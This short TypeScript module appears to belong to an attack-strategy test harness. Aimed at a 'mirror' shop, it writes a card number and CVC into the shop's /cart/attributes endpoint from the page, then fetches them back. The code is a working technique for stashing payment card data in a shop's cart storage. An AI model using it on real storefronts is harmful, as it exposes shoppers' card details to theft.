import type { Strategy } from '#scripts/attack/strategy';

/** The shop's own cart keeps attributes under any name. */
export const cartAttributes: Strategy = {
  name: 'attributes of the cart',
  channel: 'this tab',
  shops: ['mirror'],
  tellsCode: true,
  isSharp: true,
  async run({ page }) {
    const fields = "{ 'attributes[card_number]': number, 'attributes[cvc]': code }";
    await page(`return said(await post('/cart/attributes', form(${fields})))`);
    await page("return said(await fetch('/cart/attributes', { headers: json }))");
  },
};
